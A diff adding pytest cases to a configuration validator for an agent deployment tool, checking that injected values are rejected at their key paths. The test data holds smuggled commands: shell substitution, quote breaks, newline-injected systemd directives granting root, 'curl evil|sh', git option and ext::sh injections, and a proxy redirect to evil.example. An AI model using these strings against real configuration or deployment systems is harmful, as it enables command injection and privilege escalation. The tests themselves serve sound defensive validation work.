@@ -55,7 +55,134 @@ CASES = [
      "exactly one"),
     ("unpinned hermes", lambda c: _agent(c).update(runtime={"hermes": {}}), "agentctl:agents[0].runtime.hermes",
      "pin Hermes"),
+    ("nested unknown key says what is allowed", lambda c: _agent(c).update(colour="red"), "agentctl:agents[0].colour",
+     "expected one of: backups, bootstrap, egress, name, runtime, size"),
+    ("plain tailscale key names the reference form", lambda c: c.update({"agentctl:tailscale": {"authKey": "tskey-x"}}),
+     "agentctl:tailscale.authKey", "expected a reference to a Pulumi secret, {config: NAME}"),
 ]
+
+_ENV = lambda env: lambda c: _agent(c)["runtime"]["command"].update(environment=env)  # noqa: E731
+_HERMES = lambda **kw: lambda c: _agent(c).update(runtime={"hermes": kw})  # noqa: E731
+
+# Strings that reach root scripts and unit files: each one refused at its key path.
+INJECTIONS = [
+    ("heartbeat command substitution", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example/$(id>/tmp/x)"}),
+     "agentctl:heartbeatUrl", "percent-encode"),
+    ("heartbeat quote", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example/x'; id; '"}),
+     "agentctl:heartbeatUrl", "percent-encode"),
+    ("heartbeat newline", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example/x\nid"}),
+     "agentctl:heartbeatUrl", "control character"),
+    ("heartbeat not https", lambda c: c.update({"agentctl:heartbeatUrl": "http://hb.example/x"}),
+     "agentctl:heartbeatUrl", "must use https"),
+    ("heartbeat credentials", lambda c: c.update({"agentctl:heartbeatUrl": "https://u:p@hb.example/x"}),
+     "agentctl:heartbeatUrl", "credentials"),
+    ("heartbeat bad host", lambda c: c.update({"agentctl:heartbeatUrl": "https://hb.example;id/x"}),
+     "agentctl:heartbeatUrl", "host name"),
+    ("env value with unit directives", _ENV({"MODE": "x\nUser=root\nIPAddressAllow=any"}),
+     "agentctl:agents[0].runtime.command.environment.MODE", "control character"),
+    ("env name with =", _ENV({"A=B": "x"}), "agentctl:agents[0].runtime.command.environment.A=B",
+     "[A-Z_][A-Z0-9_]*"),
+    ("env name lowercase", _ENV({"mode": "x"}), "agentctl:agents[0].runtime.command.environment.mode",
+     "[A-Z_][A-Z0-9_]*"),
+    ("env overrides the proxy", _ENV({"HTTPS_PROXY": "http://evil.example:3128"}),
+     "agentctl:agents[0].runtime.command.environment.HTTPS_PROXY", "set by agentctl"),
+    ("exec with newline", lambda c: _agent(c)["runtime"]["command"].update(exec="/bin/agent\nUser=root"),
+     "agentctl:agents[0].runtime.command.exec", "control character"),
+    ("hermes version shell", _HERMES(version="v1; curl evil|sh"), "agentctl:agents[0].runtime.hermes.version",
+     "git tag name"),
+    ("hermes version option", _HERMES(version="--upload-pack=touch /tmp/x"),
+     "agentctl:agents[0].runtime.hermes.version", "git tag name"),
+    ("hermes repo quote", _HERMES(repo="https://github.com/x/y' ; id ; '", version="v1"),
+     "agentctl:agents[0].runtime.hermes.repo", "percent-encode"),
+    ("hermes repo ssh", _HERMES(repo="ext::sh -c touch% /tmp/x", version="v1"),
+     "agentctl:agents[0].runtime.hermes.repo", "whitespace"),
+    ("pip spec quote", lambda c: c["agentctl:proxy"].update(install={"pip": "agentctl-proxy'; id; '"}),
+     "agentctl:proxy.install.pip", "quote"),
+]
+
+
+@pytest.mark.parametrize("mutate,key_path,words", [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS])
+def test_injection_attempts_are_refused(mutate, key_path, words):
+    test_bad_input_names_the_key(mutate, key_path, words)
+
+
+@pytest.mark.parametrize("value", ["https://hc-ping.com/0000-1111", "https://hb.example:8443/ping/abc?rid=1&x=a%2Fb;c",
+                                   "https://HB.Example/p@th/!x,y+z~"])
+def test_legitimate_heartbeat_urls_pass(value):
+    assert from_config({**BASE, "agentctl:heartbeatUrl": value}, "t").heartbeat_url == value
+
+
+def test_legitimate_env_values_pass():
+    value = 'a "quoted" value, 100% \\ back\\slash $HOME `x` \'y\''
+    d = from_config(_with(_ENV({"MODE": value, "_X1": ""})), "t")
+    assert d.agents[0].runtime.command.environment == {"MODE": value, "_X1": ""}
+
+
+def _with(mutate):
+    config = copy.deepcopy(BASE)
+    mutate(config)
+    return config
+
+
+@pytest.mark.parametrize("name", ["OPENAI_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY",
+                                  "SLACK_BOT_TOKEN", "GH_PAT"])
+def test_credential_looking_env_is_refused_and_its_value_not_echoed(name):
+    with pytest.raises(ConfigError) as err:
+        from_config(_with(_ENV({name: "sk-live-1234567890"})), "Pulumi.t.yaml")
+    line = str(err.value)
+    assert line.startswith(f"Pulumi.t.yaml: agentctl:agents[0].runtime.command.environment.{name}: ")
+    assert "looks like a credential" in line and "egress.secrets" in line and "sk-live" not in line
+
+
+@pytest.mark.parametrize("name", ["KEYBOARD_LAYOUT", "MONKEY_MODE", "LAB_AGENT_INTERVAL", "PASSTHROUGH_MODE"])
+def test_env_names_that_only_contain_credential_words_pass(name):
+    assert name in from_config(_with(_ENV({name: "1"})), "t").agents[0].runtime.command.environment
+
+
+@pytest.mark.parametrize("key", ["heartbeatUrl", "region", "watchdog"])
+def test_settings_given_as_pulumi_secrets_are_refused_clearly(key):
+    config = {**BASE, f"agentctl:{key}": {"secure": "v1:placeholder"}}
+    with pytest.raises(ConfigError) as err:
+        from_config(config, "Pulumi.t.yaml")
+    line = str(err.value)
+    assert line.startswith(f"Pulumi.t.yaml: agentctl:{key}: is a Pulumi secret (secure:)"), line
+    assert "required but missing" not in line and f"pulumi config set {key} VALUE" in line
+
+
+@pytest.mark.parametrize("text,key_path,line", [
+    ("config:\n  agentctl:cloud: lab\n  agentctl:cloud: aws\n", "agentctl:cloud", 3),
+    ("config:\n  agentctl:proxy:\n    name: p\n    size: s\n    name: q\n", "agentctl:proxy.name", 5),
+    ("config:\n  agentctl:agents:\n    - name: a\n      egress: {rules: [], rules: []}\n",
+     "agentctl:agents[0].egress.rules", 4),
+    ("config: {}\nconfig: {}\n", "config", 2),
+])
+def test_duplicate_yaml_keys_are_refused(tmp_path, text, key_path, line):
+    (tmp_path / "Pulumi.dup.yaml").write_text(text)
+    with pytest.raises(ConfigError) as err:
+        load(tmp_path, "dup")
+    assert str(err.value) == (f"{tmp_path}/Pulumi.dup.yaml: {key_path}: is given twice (again on line {line}); "
+                              "expected each key once (Pulumi refuses duplicates too)")
+
+
+def _backups(**kw):
+    return lambda c: _agent(c).update(backups={"enabled": True, **kw})
+
+
+@pytest.mark.parametrize("mutate,words", [
+    (lambda c: c["agentctl:watchdog"].update(backupMaxAgeHours=30), "no agent has backups enabled"),
+    (lambda c: (_backups(intervalHours=24)(c), c["agentctl:watchdog"].update(backupMaxAgeHours=24)),
+     "would fail between two good backups"),
+])
+def test_backup_age_needs_backups_that_can_meet_it(mutate, words):
+    with pytest.raises(ConfigError) as err:
+        from_config(_with(mutate), "Pulumi.t.yaml")
+    assert str(err.value).startswith("Pulumi.t.yaml: agentctl:watchdog.backupMaxAgeHours: ") and words in str(err.value)
+
+
+def test_backup_age_with_backups_loads():
+    d = from_config(_with(lambda c: (_backups(intervalHours=6)(c), c["agentctl:watchdog"].update(backupMaxAgeHours=12))),
+                    "t")
+    assert d.agents[0].backups.enabled and d.watchdog.backup_max_age_hours == 12
 
 
 @pytest.mark.parametrize("mutate,key_path,words", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
